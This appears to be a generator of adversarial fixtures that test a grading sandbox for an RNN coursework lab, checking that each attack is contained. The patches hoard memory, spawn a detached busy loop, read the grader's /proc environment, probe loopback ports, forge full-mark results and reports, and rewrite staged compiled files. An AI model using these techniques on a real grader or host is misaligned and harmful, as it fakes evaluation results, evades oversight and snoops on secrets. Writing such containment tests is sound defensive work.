    "rnnParamCount first fills 6 GiB of Buffers (off the V8 heap, so --max-old-space-size does not see them; filled, so the pages are really used), keeps them and then answers honestly. A cap on the whole host's memory stops that host: rnn.paramCount errors, every other part passes (the rnn tests after it get a fresh host)",
  attack: { what: 'holds 6 GiB of Buffers off the V8 heap', tests: ['rnn.paramCount'], blocked: '' },
  edits: [
    {
      file: 'rnn.ts',
      find: RNN_COUNT,
      replace: `const hoard: Buffer[] = [];

${RNN_COUNT}  while (hoard.length < 96) hoard.push(Buffer.alloc(64 * 1024 * 1024, hoard.length + 1));
`,
    },
  ],
  expected: { 'rnn.paramCount': 'error' },
});

fixture('attack-orphan-spinner', {
  description:
    "rnnParamCount starts a detached busy loop (node -e 'for(;;){}' in a session of its own, its command line marked rnn-lab-adversarial-orphan) meant to outlive the host and the grader, then throws what happened: rnn.paramCount errors, every other part passes, and no process of the submission may be left running once grading ends",
  attack: {
    what: 'starts a detached busy-looping child meant to outlive the grading',
    tests: ['rnn.paramCount'],
    blocked: 'blocked:|spinner',
    orphanMarker: 'rnn-lab-adversarial-orphan',
  },
  edits: [
    {
      file: 'rnn.ts',
      find: RNN_COUNT,
      replace: `${RNN_COUNT}  let started = 'blocked: ';
  try {
    const { spawn } = require('child_process') as typeof import('child_process');
    const child = spawn(process.execPath, ['-e', 'for(;;){}', 'rnn-lab-adversarial-orphan'], { detached: true, stdio: 'ignore' });
    child.on('error', () => undefined);
    child.unref();
    started = \`started spinner pid \${child.pid}\`;
  } catch (err) {
    started += (err as NodeJS.ErrnoException).code ?? (err as Error).message;
  }
  throw new Error(\`\${started} (a child meant to outlive the grading)\`);
`,
    },
  ],
  expected: { 'rnn.paramCount': 'error' },
});

fixture('attack-generate-hang', {
  description:
    'generate never returns (a busy loop), after honest training. generate has its own probe and time limit: training.generate times out, while training.rnn, training.noLeak and every other part pass',
  attack: { what: 'hangs in generate', tests: ['training.generate'], blocked: '' },
  edits: [
    { file: 'generate.ts', find: GENERATE_BODY, replace: `  for (let spin = 0; spin >= 0; spin = (spin + 1) % 1000);\n${GENERATE_BODY}` },
  ],
  expected: { 'training.generate': ['timeout', 'error'] },
});

const TERMS = 150_000;
fixture('attack-pathological-compile', {
  description: `kerasRnn.ts ends with one expression of ${TERMS.toLocaleString('en')} terms, which alone takes the compiler past its deadline. Compilation is retried file by file, so only kerasRnn.ts fails to compile: both keras tests error, every other file compiles and passes`,
  attack: { what: `one ${TERMS}-term expression in kerasRnn.ts`, tests: ['keras.quizShapes', 'keras.equivalence'], blocked: '' },
  edits: [
    {
      file: 'kerasRnn.ts',
      find: KERAS_IMPORT,
      replace: `${KERAS_IMPORT}\nexport const QUIZ_TOTAL = ${Array.from({ length: TERMS }, () => '1').join('+')};\n`,
    },
  ],
  expected: { 'keras.quizShapes': 'error', 'keras.equivalence': 'error' },
});

// ---- looking around: the parent, the network, the grader's outputs, its own staged copy --------
fixture('attack-proc-of-parent', {
  description:
    'ngramParamCount reads /proc/<ppid>/cmdline and environ and the link /proc/<ppid>/cwd of the grader (where its output and scratch folders are named), and /proc/1/environ; it answers only if one of them could be read, so where /proc of other processes is out of reach ngram.paramCount errors and every honest part passes',
  attack: { what: "reads the grader's /proc entries (cmdline, environ, cwd)", tests: ['ngram.paramCount'], blocked: 'blocked: ' },
  edits: [
    {
      file: 'ngram.ts',
      find: NGRAM_COUNT,
      replace: `${NGRAM_COUNT}  const fs = require('fs') as typeof import('fs');
  const refused: string[] = [];
  let seen = 0;
  for (const [what, read] of [
    ['cmdline', () => fs.readFileSync(\`/proc/\${process.ppid}/cmdline\`)],
    ['environ', () => fs.readFileSync(\`/proc/\${process.ppid}/environ\`)],
    ['cwd', () => fs.readlinkSync(\`/proc/\${process.ppid}/cwd\`)],
    ['init environ', () => fs.readFileSync('/proc/1/environ')],
  ] as [string, () => unknown][]) {
    try {
      if (String(read()).length > 0) seen++;
    } catch (err) {
      refused.push(\`\${what}: \${(err as NodeJS.ErrnoException).code ?? (err as Error).message}\`);
    }
  }
  if (seen === 0) ${BLOCKED("no /proc entry of the parent could be read (${refused.join('; ')})")}
`,
    },
  ],
  expected: { 'ngram.paramCount': 'error' },
});

const LISTEN_PORT = 47913;
fixture('attack-loopback-connection', {
  description: `trainNgram first tries TCP connections on the loopback interface (127.0.0.1 and ::1: the inspector port 9229, port ${LISTEN_PORT}, where the adversarial harness listens during this grading, and a few usual service ports). It trains only if one connection opened; where the host has no network training.ngram errors and every other part passes`,
  attack: {
    what: 'opens loopback TCP connections (inspector, a listening harness port, usual services)',
    tests: ['training.ngram'],
    blocked: 'blocked: ',
    listen: LISTEN_PORT,
  },
  edits: [
    {
      file: 'train.ts',
      find: TRAIN_IMPORT,
      replace: `${TRAIN_IMPORT}
/** Resolves with "connected" or the connection's error code. */
function tryConnect(host: string, port: number): Promise<string> {
  const net = require('net') as typeof import('net');
  return new Promise((resolve) => {
    const socket = net.connect({ host, port });
    const done = (what: string) => {
      socket.destroy();
      resolve(what);
    };
    socket.setTimeout(2000, () => done('timeout'));
    socket.once('connect', () => done('connected'));
    socket.once('error', (err: NodeJS.ErrnoException) => done(err.code ?? err.message));
  });
}
`,
    },
    {
      file: 'train.ts',
      find: TRAIN_NGRAM,
      replace: `  const targets = ['127.0.0.1', '::1'].flatMap((host) => [9229, ${LISTEN_PORT}, 22, 80, 443, 5432, 6379, 8080].map((port) => ({ host, port })));
  return Promise.all(targets.map(({ host, port }) => tryConnect(host, port).then((r) => \`\${host}:\${port} \${r}\`))).then((seen) => {
    if (!seen.some((s) => s.endsWith(' connected'))) ${BLOCKED("no loopback connection opened (${[...new Set(seen.map((s) => s.split(' ')[1]))].join(', ')})")}
    return trainNgramHonestly(model, data, cfg, onBatch);
  });
}

function trainNgramHonestly(
  model: NgramLM,
  data: { inputs: tf.Tensor2D; labels: tf.Tensor1D },
  cfg: TrainConfig,
  onBatch?: (step: number, loss: number) => void,
): Promise<TrainResult> {
${TRAIN_NGRAM}`,
    },
  ],
  expected: { 'training.ngram': 'error' },
});

fixture('attack-write-results', {
  description:
    "ngramParamCount tries to write the grader's outputs: appends passing outcomes to the scratch folder's outcomes.jsonl, and writes results.json and report.html full marks into the output folder (named by --out in the grader's command line, else the default reports/out/grade of the project reached through the host tree's links). It answers only if a write worked, so where all are refused ngram.paramCount errors, every honest part passes, and the output folder holds only what the grader wrote",
  attack: { what: "writes the grader's outcomes, results.json and report", tests: ['ngram.paramCount'], blocked: 'blocked: ' },
  edits: [
    {
      file: 'ngram.ts',
      find: NGRAM_COUNT,
      replace: `${NGRAM_COUNT}  const fs = require('fs') as typeof import('fs');
  const path = require('path') as typeof import('path');
  const labDir = process.env.RNN_LAB_HOST_LAB_DIR ?? __dirname;
  const hostRoot = path.dirname(labDir);
  const outDirs = [\`\${hostRoot}/node_modules/../reports/out/grade\`];
  try {
    const argv = fs.readFileSync(\`/proc/\${process.ppid}/cmdline\`, 'utf8').split('\\0');
    const at = argv.indexOf('--out');
    if (at >= 0) outDirs.unshift(argv[at + 1]);
  } catch {
    // the grader's command line is out of reach; the default folder remains
  }
  const fullMarks = JSON.stringify({ score: 61, tests: [{ name: 'everything', score: 61, max_score: 61, status: 'passed' }] });
  const writes: [string, string, 'append' | 'write'][] = [
    [\`\${labDir}/../outcomes.jsonl\`, '{"id":"ngram.paramCount","status":"passed","message":"passed","durationMs":1}\\n', 'append'],
    [\`\${hostRoot}/../outcomes.jsonl\`, '{"id":"ngram.paramCount","status":"passed","message":"passed","durationMs":1}\\n', 'append'],
    ...outDirs.flatMap((dir) => [[\`\${dir}/results.json\`, fullMarks, 'write'], [\`\${dir}/report.html\`, '<h1>61/61</h1>', 'write']] as [string, string, 'write'][]),
  ];
  const refused: string[] = [];
  let written = 0;
  for (const [file, text, how] of writes) {
    try {
      if (how === 'append') fs.appendFileSync(file, text);
      else fs.writeFileSync(file, text);
      written++;
    } catch (err) {
      refused.push(\`\${file}: \${(err as NodeJS.ErrnoException).code ?? (err as Error).message}\`);
    }
  }
  if (written === 0) ${BLOCKED("every write was refused (${refused.join('; ')})")}
`,
    },
  ],
  expected: { 'ngram.paramCount': 'error' },
});

fixture('attack-write-staged-copy', {
  description:
    'buildVocab tries to rewrite its own staged, compiled copy: it appends to ngram.js (so that ngramParamCount returns 7 in the hosts that load it later) and overwrites loss.js in the lab folder, and to the staged .ts next to it. It answers only if a write worked, so where the compiled lab is read-only data.vocab errors and every other part, ngram.paramCount included, passes',
  attack: { what: 'rewrites its own staged and compiled files', tests: ['data.vocab'], blocked: 'blocked: ' },
  edits: [
    {
      file: 'data.ts',
      find: BUILD_VOCAB,
      replace: `${BUILD_VOCAB}  const fs = require('fs') as typeof import('fs');
  const path = require('path') as typeof import('path');
  const labDir = process.env.RNN_LAB_HOST_LAB_DIR ?? __dirname;
  const refused: string[] = [];
  let written = 0;
  for (const [file, how] of [
    [path.join(labDir, 'ngram.js'), 'append'],
    [path.join(__dirname, 'ngram.js'), 'append'],
    [path.join(labDir, 'loss.js.map'), 'write'],
    [path.join(labDir, '..', 'staged', 'ngram.ts'), 'append'],
    [path.join(labDir, '..', 'submission', 'ngram.ts'), 'append'],
  ] as [string, 'append' | 'write'][]) {
    try {
      if (how === 'append') fs.appendFileSync(file, '\\nmodule.exports.ngramParamCount = () => 7;\\n');
      else fs.writeFileSync(file, '{}');
      written++;
    } catch (err) {
      refused.push(\`\${file}: \${(err as NodeJS.ErrnoException).code ?? (err as Error).message}\`);
    }
  }
  if (written === 0) ${BLOCKED("every write to the staged copy was refused (${refused.join('; ')})")}
`,
    },
  ],
  expected: { 'data.vocab': 'error' },
});

console.log(out.join('\n'));
